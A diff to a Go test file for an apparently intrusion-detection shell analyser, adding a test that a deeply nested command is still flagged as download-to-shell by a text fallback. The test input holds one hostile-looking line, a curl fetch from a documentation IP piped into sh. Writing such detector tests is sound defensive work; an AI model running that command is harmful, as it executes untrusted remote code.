@@ -3,6 +3,7 @@ package intrusion
 import (
 	"encoding/base64"
 	"slices"
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
@@ -95,6 +96,10 @@ func TestAnalyzeBounded(t *testing.T) {
 		long += "a && $(b) && "
 	}
 	AnalyzeShell(long+"c", "")
+	// Nesting that would overflow the parser's stack is judged as text.
+	deep := "curl http://192.0.2.1/a | sh\necho $((" + strings.Repeat("(", 250000)
+	c = AnalyzeShell(deep, "")
+	assert.Contains(t, codes(c), "download-to-shell", "the text fallback still sees the pipe")
 }
 
 func FuzzAnalyzeShell(f *testing.F) {
